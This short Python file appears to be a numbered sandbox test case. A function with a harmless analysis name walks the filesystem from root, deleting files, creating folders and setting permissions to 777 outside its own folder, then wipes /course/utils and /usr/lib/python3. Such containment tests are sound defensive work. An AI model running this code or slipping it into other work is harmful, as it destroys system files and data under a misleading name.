"""C06: write, rename and delete outside of the worker's own folder."""

import os
import shutil


def difference_of_means(acts, labels):
    own, changed = (os.getcwd(), "/dev/shm", "/proc"), []
    for folder, folders, files in os.walk("/"):
        if folder.startswith(own) or folder.count("/") > 3:
            folders.clear()
            continue
        for action, name in ((os.mkdir, "made"), (os.unlink, files[0] if files else ""), (os.chmod, "")):
            try:
                path = os.path.join(folder, name)
                action(path, 0o777) if action is os.chmod else action(path)
            except OSError:
                continue
            changed.append((action.__name__, path))
    for folder in ("/course/utils", "/usr/lib/python3"):
        shutil.rmtree(folder, ignore_errors=True)
    raise ValueError(f"changed {changed}")
